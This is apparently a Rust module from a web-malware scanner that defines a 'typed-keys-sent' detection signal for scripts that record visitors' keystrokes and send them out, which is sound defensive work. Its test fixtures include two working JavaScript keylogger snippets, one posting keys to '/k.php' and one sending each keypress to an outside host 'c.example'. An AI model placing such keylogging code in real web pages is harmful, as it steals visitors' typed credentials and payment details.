//! `typed-keys-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "typed-keys-sent",
    description: "The script records the keys that visitors press and sends them.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::KeysSent]),
        one(&[Atom::KeyEvent]),
        // `machine.send(key)` of a component leaves no page.
        one(&[
            Atom::Request,
            Atom::Post,
            Atom::PostMethod,
            Atom::Beacon,
            Atom::Socket,
            Atom::Image,
            Atom::AddressFromData,
            Atom::ScriptElement,
            Atom::FrameElement,
            Atom::SentAbroad,
            Atom::Repeat,
        ]),
    ],
    within: 1500,
    only_if: Some(listens),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var b=[];document.addEventListener('keydown',e=>b.push(e.key));setInterval(()=>{fetch('/k.php',{method:'POST',body:JSON.stringify(b)})},2e3)",
            "$('#w').contents().keypress(function(e){$.get('http://c.example/k.php?x='+e.which)})",
        ],
        without: &[
            "menu.onkeydown=function(e){switch(e.key){case 'Enter':machine.send({type:'choose'});break;default:machine.send({type:'search',value:e.key})}}",
            "list.addEventListener('keydown',e=>machine.send({type:'search',key:e.key}))",
            "document.addEventListener('keydown',e=>{if(e.key==='Enter')fetch('/search?q='+q.value)})",
            "input.addEventListener('keyup',function(e){if(e.keyCode==13){$.get('/find',{q:this.value})}})",
            "function load(n){log('Keydown put the focus on a node');$.ajax({url:'/rows',data:{id:n.prefix+n.key}})}",
        ],
    },
};

/// Whether keys are listened to near: a name, or a text that names events. A sentence about a key hears none.
fn listens(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    near.places().any(|at| {
        near.has_fact_in(at..at + 1, &[Atom::KeyEvent])
            && match near.kind(at) {
                Some(Kind::Str | Kind::Template | Kind::Regex) => names_events(near.word(at)),
                _ => true,
            }
    })
}

/// Whether at least half of the words of a text begin as the names of events do, or it is markup that has a handler.
fn names_events(text: &str) -> bool {
    let small = text[..text.floor_char_boundary(LONGEST)].to_ascii_lowercase();
    let is_event = |word: &&str| EVENTS.iter().any(|event| word.starts_with(event));
    let words = small.split([' ', ',']).filter(|word| !word.is_empty());
    small.contains("onkey") || 2 * words.clone().filter(is_event).count() >= words.count()
}

const EVENTS: &[&str] =
    &["key", "input", "change", "paste", "blur", "focus", "click", "mouse", "submit", "touch", "cut", "copy"];
/// Bytes of a text that are looked at.
const LONGEST: usize = 600;
